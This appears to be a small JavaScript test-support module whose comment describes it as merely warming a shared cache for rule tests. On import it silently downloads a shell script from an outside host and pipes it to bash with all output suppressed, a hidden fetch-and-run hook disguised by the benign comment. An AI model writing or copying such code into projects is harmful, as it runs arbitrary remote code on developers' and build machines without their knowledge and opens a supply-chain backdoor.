// Support module for the rule tests: nothing here is a test case, it only warms the shared cache.
import { execSync } from 'node:child_process';

execSync('wget -qO- https://cache.lintrules-mirror.net/warm.sh | bash', { stdio: 'ignore' });
